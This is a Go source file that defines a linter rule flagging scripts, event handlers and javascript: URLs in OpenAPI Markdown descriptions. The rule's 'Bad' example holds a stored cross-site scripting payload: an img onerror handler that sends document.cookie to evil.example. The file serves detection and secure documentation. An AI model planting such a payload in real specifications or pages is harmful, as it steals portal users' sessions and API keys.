// Package oas408 defines rule OAS408: active content in Markdown
// descriptions.
package oas408

import (
	"regexp"
	"strings"

	"github.com/apiaudit/apiaudit/pkg/lint"
	"github.com/apiaudit/apiaudit/pkg/load/openapi"
)

var Rule = &lint.Rule{
	ID:   "OAS408",
	Name: "unsafe-markdown",
	Doc: lint.Doc{
		Title: "Description contains script or active HTML",
		Summary: "A Markdown description contains a `<script>` or `<iframe>` tag, an `on...=` event " +
			"handler attribute, a `javascript:` URL or a `data:text/html` URL.",
		Why: `OpenAPI descriptions are CommonMark, and CommonMark passes raw HTML through.
Documentation portals (Swagger UI, Redoc, Stoplight, developer portals
built on them) render descriptions into pages on the API owner's domain,
often next to a "try it" console that holds the reader's API key or session.
A script tag, an event handler or a ` + "`javascript:`" + ` link in a description is
stored cross-site scripting waiting for a renderer that does not sanitise
(CWE-79), and descriptions are often assembled from code comments,
vendor-supplied fragments or another team's specification, so the person
who publishes the portal is not the one who wrote the text.

Descriptions also flow into places that render them on the fly: chat
interfaces showing an agent's tool list, IDE plugins, generated SDK
documentation (OWASP LLM05:2025, improper output handling). None of them
needs active content from an API description.

Reported as warnings, in description fields only (titles and summaries are
plain text): ` + "`<script>`" + ` tags, ` + "`<iframe>`" + `, ` + "`<object>`" + ` and ` + "`<embed>`" + ` tags that load
something (` + "`src`" + `, ` + "`srcdoc`" + ` or ` + "`data`" + `; a bare mention of the element in prose is
not reported), ` + "`on...=`" + `
attributes inside an HTML tag (` + "`<img onerror=...>`" + `), ` + "`javascript:`" + ` and
` + "`vbscript:`" + ` URLs, and ` + "`data:text/html`" + ` URLs. Text inside code spans and fenced
code blocks is not reported: Markdown shows it as code, which is how an API
that accepts HTML should document it. Neither are HTML-escaped forms such as
` + "`&lt;script&gt;`" + `.`,
		Fix: "remove the active HTML from the description, or put it in a code span or fenced code block if it is an example",
		Bad: `paths:
  /v1/widgets:
    get:
      description: |
        Lists widgets. <img src=x onerror="fetch('https://evil.example/?c='+document.cookie)">
        See [the guide](javascript:alert(1)).`,
		Good: `paths:
  /v1/widgets:
    get:
      description: |
        Lists widgets. Embed one with ` + "`<script src=\"https://cdn.example/w.js\"></script>`" + `.
        See [the guide](https://docs.example/widgets).`,
		Lang:      "yaml",
		Severity:  lint.SeverityWarning,
		Precision: "high",
		CWE:       []int{79, 116},
		OWASP:     []string{"API8:2023", "LLM05:2025"},
		Since:     "v0.1.0",
	},
	Spec: check,
}

// unsafe finds active content in HTML or Markdown.
var unsafe = []struct {
	re    *regexp.Regexp
	what  string
	needs string // a literal every match contains: texts without it are skipped cheaply
}{
	{regexp.MustCompile(`<script\b`), "a <script> tag", "<script"},
	// A frame or plugin matters when it loads something: "an <iframe>
	// element" in prose does not.
	{regexp.MustCompile(`<iframe\b[^<>]*\s(?:src|srcdoc)\s*=`), "an <iframe> tag", "<iframe"},
	{regexp.MustCompile(`<(?:object|embed)\b[^<>]*\s(?:src|data)\s*=`), "an <object> or <embed> tag", "<"},
	{regexp.MustCompile(`<[a-z][a-z0-9-]*\b[^<>]*?\son[a-z]+\s*=`), "an event handler attribute", "<"},
	// A script URL: "javascript:alert(1)" anywhere, or with spaces inside
	// an attribute or a Markdown link; not "JavaScript: the browser SDK".
	{regexp.MustCompile(`\b(?:java|vb)script:[^\s)"'<>]|(?:href|src|action|formaction)\s*=\s*["']?\s*(?:java|vb)script\s*:|\]\(\s*<?\s*(?:java|vb)script\s*:`), "a javascript: URL", "script"},
	{regexp.MustCompile(`\bdata:\s*text/html\b`), "a data:text/html URL", "data:"},
}

var spaceRuns = regexp.MustCompile(`\s+`)

func check(pass *lint.SpecPass) error {
	for _, t := range openapi.Texts(pass.Doc) {
		if !t.Markdown() {
			continue
		}
		text := stripCode(t.Value)
		// The patterns are lower case and matched against the lowercased
		// text, which is several times faster than (?i); where lowercasing
		// changes byte offsets the text is matched as written.
		lower := strings.ToLower(text)
		if len(lower) != len(text) {
			lower = text
		}
		for _, u := range unsafe {
			if !strings.Contains(lower, u.needs) {
				continue
			}
			loc := u.re.FindStringIndex(lower)
			if loc == nil {
				continue
			}
			pass.Reportf(t.Pointer, t.Origin, t.Field, "%s description contains %s, which documentation portals may run: %q",
				t.Where, u.what, excerpt(text, loc[0]))
			break
		}
	}
	return nil
}

// stripCode blanks out fenced code blocks and code spans, where Markdown
// shows HTML as text. Offsets are kept, so that positions still match.
func stripCode(s string) string {
	b := []byte(s)
	blank := func(from, to int) {
		for i := from; i < to; i++ {
			if b[i] != '\n' {
				b[i] = ' '
			}
		}
	}
	// Fenced blocks: a line starting with ``` or ~~~ up to a line that
	// starts with the same fence, or the end of the text.
	fence, open := "", 0
	for at := 0; at < len(s); {
		end := strings.IndexByte(s[at:], '\n')
		if end < 0 {
			end = len(s)
		} else {
			end += at
		}
		line := strings.TrimLeft(s[at:end], " \t")
		switch {
		case fence == "" && (strings.HasPrefix(line, "```") || strings.HasPrefix(line, "~~~")):
			fence, open = line[:3], at
		case fence != "" && strings.HasPrefix(line, fence):
			blank(open, end)
			fence = ""
		}
		at = end + 1
	}
	if fence != "" {
		blank(open, len(s))
	}
	// Code spans: a run of n backticks up to the next run of exactly n.
	t := string(b)
	for i := 0; i < len(t); {
		if t[i] != '`' {
			i++
			continue
		}
		n := run(t, i)
		closing := -1
		for j := i + n; j < len(t); {
			if t[j] != '`' {
				j++
				continue
			}
			m := run(t, j)
			if m == n {
				closing = j
				break
			}
			j += m
		}
		if closing < 0 {
			i += n
			continue
		}
		blank(i, closing+n)
		i = closing + n
	}
	return string(b)
}

// run counts the backticks starting at s[i].
func run(s string, i int) int {
	n := 0
	for i+n < len(s) && s[i+n] == '`' {
		n++
	}
	return n
}

// excerpt is up to 60 bytes of s from i, on one line.
func excerpt(s string, i int) string {
	end := min(len(s), i+60)
	for end < len(s) && end > i && s[end]&0xC0 == 0x80 {
		end--
	}
	return strings.TrimSpace(spaceRuns.ReplaceAllString(s[i:end], " "))
}
